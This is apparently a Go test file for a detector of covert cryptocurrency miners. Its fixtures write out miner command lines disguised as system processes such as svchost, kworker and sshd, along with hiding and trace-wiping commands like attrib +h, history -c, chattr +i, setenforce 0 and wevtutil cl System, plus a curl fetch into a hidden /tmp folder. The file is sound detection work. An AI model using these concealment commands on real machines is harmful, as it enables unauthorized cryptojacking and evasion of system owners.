package concealment

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"lamproom/detection"
	"lamproom/detection/detectiontest"
	"lamproom/evidence"
	"lamproom/format/commandline"
	"lamproom/indicator"
	"lamproom/observation"
)

const wallet = "4JUdGzvrMFDWrUUwY3toJATSeNwjn54LkCnKBPRzDuhzi5vSepHfUckJNxRL2gjkNrSqtCoRUrEDAgRwsQvVCjZbRy5YeFCqgoUMnzumvS"

// file makes an evidence and reads every line of it as a statement.
func file(name string, setting observation.Setting, shell commandline.Shell, lines ...string) []observation.Observation {
	return read(&evidence.Evidence{Name: name, ID: evidence.ID{1}}, setting, shell, lines...)
}

func read(ev *evidence.Evidence, setting observation.Setting, shell commandline.Shell, lines ...string) []observation.Observation {
	var out []observation.Observation
	base := int64(0)
	for _, l := range lines {
		value := func(text string, from, to int) observation.Value {
			return observation.Value{Text: text, At: evidence.Cite(ev, []byte(l), base, from, to)}
		}
		commands, missing := commandline.Split([]byte(l), shell, nil)
		for _, c := range commands {
			cl := observation.CommandLine{Raw: value(l, 0, len(l)), Setting: setting, Shell: string(c.Shell), Wrappers: c.Wrappers, Alias: c.Alias, Unresolved: missing}
			for _, a := range c.Argv {
				cl.Argv = append(cl.Argv, value(a.Text, a.Start, a.End))
			}
			out = append(out, observation.Observation{Where: cl.Raw.At.Locator, Fact: cl})
			if len(c.Env) > 0 {
				env := observation.Environment{Setting: setting}
				for _, e := range c.Env {
					env.Set = append(env.Set, observation.Assignment{Name: e.Name, Value: value(e.Value.Text, e.Value.Start, e.Value.End)})
				}
				out = append(out, observation.Observation{Where: cl.Raw.At.Locator, Fact: env})
			}
		}
		base += int64(len(l)) + 1
	}
	return out
}

func script(lines ...string) []observation.Observation {
	return file("run.sh", observation.Script, commandline.Posix, lines...)
}

func batch(lines ...string) []observation.Observation {
	return file("run.bat", observation.Script, commandline.Cmd, lines...)
}

const (
	pool = " -o pool.example.org:3333 -u " + wallet + " -p x"
	host = " -o 192.0.2.7:443 -u " + wallet + " -p x -k --tls"
)

func TestHidden(t *testing.T) {
	for name, c := range map[string]struct {
		root      []observation.Observation
		clause    string
		technique string
	}{
		"reference case":     {batch(`C:\Windows\Sys64\intelservice.exe` + pool + ` -k`), "no Windows has", "T1036.005"},
		"vendor, no folder":  {batch(`intelservice.exe` + pool), "passes for a program of Intel", "T1036.005"},
		"system out of home": {batch(`C:\Users\Public\svchost.exe` + pool), "lies elsewhere", "T1036.005"},
		"csrss in Temp":      {batch(`C:\Windows\Temp\csrss.exe` + pool), "lies elsewhere", "T1036.005"},
		"hollowed":           {batch(`C:\Windows\System32\svchost.exe` + pool), "does not take a pool", "T1036.005"},
		"explorer, no path":  {batch(`explorer.exe` + pool), "program of Windows", "T1036.005"},
		"one letter":         {batch(`C:\ProgramData\scvhost.exe` + pool), "one letter", "T1036.005"},
		"recycle bin":        {batch(`C:\$Recycle.Bin\a.exe` + pool), "Explorer does not show", "T1564.001"},
		"alias":              {script(`exec -a "[kworker/0:1]" ./a` + pool), "told to run under", "T1036.005"},
		"kernel thread":      {script(`/var/lib/kworker` + pool), "kernel thread", "T1036.005"},
		"kswapd0":            {script(`./kswapd0` + pool), "kernel thread", "T1036.005"},
		"x11":                {script(`/tmp/.X11-unix/1` + pool), "hidden folder", "T1564.001"},
		"hidden in tmp":      {script(`/var/tmp/.hidden/a` + pool), "hidden folder", "T1564.001"},
		"three dots":         {script(`/usr/share/.../a` + pool), "overlooked", "T1564.001"},
		"sshd":               {script(`/tmp/sshd` + pool), "part of the system", "T1036.005"},
		"systemd look-alike": {script(`/tmp/systemd-worker` + host), "part of the system", "T1036.005"},
		"bash":               {script(`nohup ./-bash` + pool + ` >/dev/null 2>&1 &`), "part of the system", "T1036.005"},
		"hidden window":      {file("a.ps1", observation.Script, commandline.PowerShell, `Start-Process -WindowStyle Hidden -FilePath C:\a\m.exe -ArgumentList "`+strings.TrimSpace(pool)+`"`), "without a window", "T1564.003"},
		"vbs": {file("a.vbs", observation.Script, commandline.VBS, `CreateObject("WScript.Shell").Run "m.exe`+pool+`", 0, False`),
			"without a window", "T1564.003"},
		"task":                 {batch(`schtasks /create /sc onstart /tn "Microsoft\Windows\Power" /tr "C:\a\m.exe` + pool + `"`), "scheduled task called", "T1036.004"},
		"service":              {batch(`sc create "Windows Update Helper" binPath= "C:\a\m.exe` + pool + `"`), "service called", "T1036.004"},
		"attrib beside":        {batch(`attrib +h +s C:\a`, `C:\a\m.exe`+pool), "made hidden", "T1564.001"},
		"history beside":       {script(`history -c`, `./m`+pool), "history is wiped", "T1070.003"},
		"bind mount":           {script(`./m`+pool+` &`, `mount --bind /root/x /proc/4242`), "laid over", "T1564.013"},
		"copied before":        {script(`cp m /tmp/.ICE-unix/kthreadd`, `xmrig`+pool), "hidden folder", "T1564.001"},
		"stealth":              {batch(`a.exe` + pool + ` --cinit-stealth-targets=Taskmgr.exe`), "would show it", "T1564"},
		"two middling":         {script(`chattr +i /usr/bin/m`, `setenforce 0`, `/usr/bin/m`+pool), "impossible to change", "T1222.002"},
		"memory and plain":     {script(`/dev/shm/update` + pool), "in memory", "T1036.005"},
		"title":                {batch(`a.exe` + pool + ` --title=svchost.exe`), "title of its window", "T1036.005"},
		"list of processes":    {file("ps.txt", observation.Process, commandline.None, `[kworker/u8:2]`+pool), "kernel thread", "T1036.005"},
		"stock name, bad home": {batch(`C:\Windows\Sys64\xmrig.exe` + pool), "no Windows has", "T1036.005"},
	} {
		t.Run(name, func(t *testing.T) {
			l := detectiontest.Run(t, New(), c.root...)
			if len(l.Findings) != 1 {
				t.Fatalf("%d findings, want 1", len(l.Findings))
			}
			f := l.Findings[0]
			if !f.Covert || f.Title != titleCovert || f.Severity != detection.High || f.Mining != detection.NoneSeen {
				t.Errorf("covert %v, %q, %v, mining %v\n%s", f.Covert, f.Title, f.Severity, f.Mining, dump(f))
			}
			if !slices.ContainsFunc(f.Because.Under, func(r detection.Reason) bool { return r.Held && strings.Contains(r.Clause, c.clause) }) {
				t.Errorf("no reason says %q:\n%s", c.clause, dump(f))
			}
			if !slices.Contains(f.Techniques, c.technique) {
				t.Errorf("techniques %v, want %s among them", f.Techniques, c.technique)
			}
			declared := New().Rules()[0].Techniques
			for _, x := range f.Techniques {
				if !slices.Contains(declared, x) {
					t.Errorf("technique %s is not declared", x)
				}
			}
		})
	}
}

// TestAroundTheArguments: dissectors state the arguments; what else the line
// holds is in their citations.
func TestAroundTheArguments(t *testing.T) {
	line := `s.Run "C:\a\m.exe` + pool + `", 0, False`
	ev := &evidence.Evidence{Name: "a.vbs"}
	value := func(text string, from int) observation.Value {
		return observation.Value{Text: text, At: evidence.Cite(ev, []byte(line), 0, from, from+len(text))}
	}
	c := observation.CommandLine{Setting: observation.Script, Raw: value(`C:\a\m.exe`+pool, 7)}
	at := 7
	for _, a := range strings.Fields(c.Raw.Text) {
		at += strings.Index(line[at:], a)
		c.Argv = append(c.Argv, value(a, at))
	}
	l := detectiontest.Run(t, New(), observation.Observation{Where: c.Raw.At.Locator, Fact: c})
	if len(l.Findings) != 1 || !slices.Contains(l.Findings[0].Techniques, "T1564.003") {
		t.Errorf("a hidden window is not seen: %+v", l.Findings)
	}
}

func TestNotHidden(t *testing.T) {
	for name, root := range map[string][]observation.Observation{
		"stock on Linux":     script(`/opt/xmrig/xmrig` + pool),
		"stock on Windows":   batch(`C:\xmrig\xmrig.exe` + pool + ` --donate-level=1`),
		"stock as a server":  script(`nohup /opt/xmrig/xmrig` + pool + ` >/dev/null 2>&1 &`),
		"stock at home":      script(`/home/u/.xmrig/xmrig` + pool + ` --background --pause-on-active=60`),
		"built in tmp":       script(`cd /tmp/xmrig/build`, `/tmp/xmrig/build/xmrig`+pool+` --verbose`),
		"stock setup":        script(`killall -9 xmrig`, `/root/moneroocean/xmrig`+pool+` >/dev/null 2>&1`),
		"stock task":         batch(`schtasks /create /tn "XMRig miner" /tr "C:\xmrig\xmrig.exe` + pool + `"`),
		"own names":          script(`/usr/local/bin/srbminer-multi` + pool),
		"start /b":           batch(`start /b xmrig.exe` + pool),
		"rivals driven away": script(`rm -rf /tmp/.X11-unix/kthreadd`, `pkill -f /tmp/.x/sshd`, `/opt/xmrig/xmrig`+pool),
		"home dot config":    script(`/home/u/.local/bin/xmrig` + pool),
		"docker X11":         script(`docker run -v /tmp/.X11-unix:/tmp/.X11-unix ccminer`+pool, `./ccminer`+pool),
	} {
		t.Run(name, func(t *testing.T) {
			for _, f := range detectiontest.Run(t, New(), root...).Findings {
				if f.Covert || f.Severity > detection.Low {
					t.Errorf("called covert:\n%s", dump(f))
				}
			}
		})
	}
}

// TestNothingWithoutAMiner gives what administrators, desktops and attackers of
// other sorts do: it hides, but nothing mines.
func TestNothingWithoutAMiner(t *testing.T) {
	for name, root := range map[string][]observation.Observation{
		"administration": script(`chattr +i /etc/resolv.conf`, `setenforce 0`, `history -c`, `unset HISTFILE`, `nohup ./server >/dev/null 2>&1 &`),
		"batch":          batch(`attrib +h +s C:\pagefile.sys`, `wevtutil cl System`, `schtasks /create /tn "Microsoft\Windows\Backup" /tr "C:\a\backup.exe"`),
		"fetch":          script(`curl -o /tmp/.X11-unix/sshd -u user:password files.example.org:8080`, `/tmp/.X11-unix/sshd -D`),
		"ssh":            script(`ssh -o StrictHostKeyChecking=no -p 2222 host.example.org`, `/tmp/sshd -o Port=22`),
		"mysql":          script(`/tmp/.mysql/mysqld -u root -p secret -h db.example.org`),
		"compiler":       script(`gcc -o output -u symbol main.c`, `/dev/shm/.x/gcc -o a.b:80 -u c`),
		"openssl":        script(`openssl enc -k key -p -in a -out b`),
		"process hider":  batch(`C:\Windows\Sys64\a.exe -install`, `C:\Users\Public\svchost.exe -k netsvcs -p`),
	} {
		t.Run(name, func(t *testing.T) {
			if f := detectiontest.Run(t, New(), root...).Findings; len(f) > 0 {
				t.Errorf("%s", dump(f[0]))
			}
		})
	}
}

func TestWordsOfOthersDoNotHide(t *testing.T) {
	line := `C:\Windows\Sys64\intelservice.exe` + pool
	for _, s := range []observation.Setting{observation.Comment, observation.Printed, observation.Prose, observation.Pattern} {
		if f := detectiontest.Run(t, New(), file("x", s, commandline.Cmd, line)...).Findings; len(f) > 0 {
			t.Errorf("%s: %s", s, dump(f[0]))
		}
	}
	reported := read(&evidence.Evidence{Name: "advisory.txt", Role: evidence.Reported}, observation.Bare, commandline.Cmd, line)
	if f := detectiontest.Run(t, New(), reported...).Findings; len(f) > 0 {
		t.Errorf("reported: %s", dump(f[0]))
	}
}

func mention(ev *evidence.Evidence, p string) observation.Observation {
	at := evidence.Cite(ev, []byte(p), 4096, 0, len(p))
	return observation.Observation{Where: at.Locator, Fact: observation.Mention{
		Indicator: indicator.Indicator{Type: indicator.TypePath, Value: p}, Setting: observation.Strings, As: observation.Value{Text: p, At: at},
	}}
}

// TestInstaller is the shape of the reference case: a program that holds the
// places of what it drops, and arguments apart from them.
func TestInstaller(t *testing.T) {
	ev := &evidence.Evidence{Name: "installer.bin", ID: evidence.ID{7}}
	root := []observation.Observation{mention(ev, `C:\SoftwaresInstall\soft`), mention(ev, `C:\Windows\Sys64\updater.exe`), mention(ev, `C:\Windows\Sys64\intelservice.exe`)}
	if f := detectiontest.Run(t, New(), root...).Findings; len(f) > 0 {
		t.Fatalf("paths alone: %s", dump(f[0]))
	}
	args := read(ev, observation.Strings, commandline.None, `-o barjuok.ryongnamsan.edu.kp -u `+wallet+` -p KJU`)
	for i := range args { // arguments without a program
		c := args[i].Fact.(observation.CommandLine)
		c.Argv = append([]observation.Value{{}}, c.Argv...)
		args[i].Fact = c
	}
	l := detectiontest.Run(t, New(), append(root, args...)...)
	if len(l.Findings) != 1 || !l.Findings[0].Covert {
		t.Fatalf("want one covert finding, got %+v", l.Findings)
	}
	f := l.Findings[0]
	for _, want := range []string{`updater.exe`, `intelservice.exe`} {
		if !slices.ContainsFunc(f.Because.Under, func(r detection.Reason) bool { return strings.Contains(r.Clause, want) && len(r.At) == 1 }) {
			t.Errorf("no reason cites %s: %s", want, dump(f))
		}
	}
	if f.Subject.Kind != "file" || f.Subject.Name != "installer.bin" {
		t.Errorf("subject %+v", f.Subject)
	}
}

func config(ev *evidence.Evidence, hidden []string, donate int, user string) observation.Observation {
	raw := []byte(`{"pools":[]}`)
	at := evidence.Cite(ev, raw, 0, 0, len(raw))
	return observation.Observation{Where: at.Locator, Fact: observation.MinerConfig{
		Layout: "xmrig", Setting: observation.Config, Whole: true, Donate: &donate, Hidden: hidden, Raw: observation.Value{Text: string(raw), At: at},
		Pools: []observation.Pool{{Host: "pool.example.org", Port: 3333, User: observation.Value{Text: user, At: at}}},
	}}
}

func TestConfig(t *testing.T) {
	ev := &evidence.Evidence{Name: "config.json"}
	for name, c := range map[string]struct {
		hidden []string
		covert bool
	}{
		"plain":          {nil, false},
		"background":     {[]string{"background=true"}, false},
		"background too": {[]string{"background=true", "pause-on-active=true"}, false},
		"title":          {[]string{"title=svchost.exe"}, true},
		"own title":      {[]string{"title=XMRig on rig 4"}, false},
		"stealth":        {[]string{"stealth-targets=Taskmgr.exe,ProcessHacker.exe"}, true},
	} {
		covert := false
		for _, f := range detectiontest.Run(t, New(), config(ev, c.hidden, 1, wallet)).Findings {
			covert = covert || f.Covert
		}
		if covert != c.covert {
			t.Errorf("%s: covert %v, want %v", name, covert, c.covert)
		}
	}
	for _, user := range []string{"YOUR_WALLET_ADDRESS", "<wallet>", ""} {
		if f := detectiontest.Run(t, New(), config(ev, []string{"title=svchost.exe"}, 0, user)).Findings; len(f) > 0 {
			t.Errorf("template with user %q: %s", user, dump(f[0]))
		}
	}
}

// TestScenes: the members of one folder of an archive are one scene, those of
// another folder are not, and the path of the examiner's own copy says nothing.
func TestScenes(t *testing.T) {
	archive := &evidence.Evidence{Name: "image.tar"}
	member := func(name string) *evidence.Evidence {
		return &evidence.Evidence{Name: name, Origin: evidence.Origin{Member: name}, Within: &evidence.Locator{Evidence: archive}}
	}
	covert := func(root ...observation.Observation) bool {
		for _, f := range detectiontest.Run(t, New(), root...).Findings {
			if f.Covert {
				return true
			}
		}
		return false
	}
	wipe := func(name string) []observation.Observation {
		return read(member(name), observation.Script, commandline.Posix, "history -c")
	}
	if !covert(append(wipe("opt/m/run.sh"), config(member("opt/m/config.json"), nil, 1, wallet))...) {
		t.Error("a script beside the configuration does not count")
	}
	if covert(append(wipe("etc/profile.d/x.sh"), config(member("opt/m/config.json"), nil, 1, wallet))...) {
		t.Error("a script elsewhere in the archive counts")
	}
	if !covert(config(member("./tmp/.X11-unix/config.json"), nil, 1, wallet)) {
		t.Error("a configuration in a hidden folder of an archive does not count")
	}
	if covert(config(&evidence.Evidence{Name: "/tmp/.case/sys64/config.json", Origin: evidence.Origin{Path: "/tmp/.case/sys64/config.json"}}, nil, 1, wallet)) {
		t.Error("the examiner's own folder counts")
	}
	outer := &evidence.Evidence{Name: "a.sh"}
	layer := &evidence.Evidence{Name: "a.sh", Origin: evidence.Origin{Recipe: "base64"}, Within: &evidence.Locator{Evidence: outer}}
	if !covert(append(read(outer, observation.Script, commandline.Posix, "chattr +i /usr/bin/m", "history -c"), read(layer, observation.Script, commandline.Posix, "./m"+pool)...)...) {
		t.Error("a decoded layer is not of its script's scene")
	}
}

func TestOpenMinerIsKeptAsCounterEvidence(t *testing.T) {
	l := detectiontest.Run(t, New(), batch(`C:\Windows\Sys64\xmrig.exe`+pool+` --donate-level=1 --log-file=C:\log.txt`)...)
	if len(l.Findings) != 1 {
		t.Fatal("no finding")
	}
	n := 0
	for _, r := range l.Findings[0].Because.Under {
		if !r.Held {
			n++
		}
	}
	if n != 3 {
		t.Errorf("%d clauses speak against, want 3: its name, its donation, its log\n%s", n, dump(l.Findings[0]))
	}
}

func TestConformance(t *testing.T) {
	detectiontest.Conform(t, New(),
		batch(`attrib +h +s C:\a`, `C:\Windows\Sys64\intelservice.exe`+pool),
		script(`history -c`, `exec -a sshd /tmp/.x/a`+pool+` >/dev/null 2>&1 &`))
}

func FuzzImitate(f *testing.F) {
	for _, s := range []string{`C:\Windows\Sys64\a.exe`, "/tmp/.X11-unix/X0", "[kworker/0:1]", "svchost.exe", "", "/", `\\`, ".../", "%windir%\\Fonts\\a", "./-bash", "C:"} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, p string, given bool) {
		a, b := imitate(p, given), imitate(p, given)
		if !slices.Equal(a, b) {
			t.Errorf("%q: %v, then %v", p, a, b)
		}
		for _, d := range a {
			if d.clause == "" || d.technique == "" || len(d.clause) > 1024 {
				t.Errorf("%q: %+v", p, d)
			}
		}
	})
}

func dump(f detection.Finding) string {
	b, _ := json.MarshalIndent(f.Because, "", " ")
	return f.Title + "\n" + string(b)
}
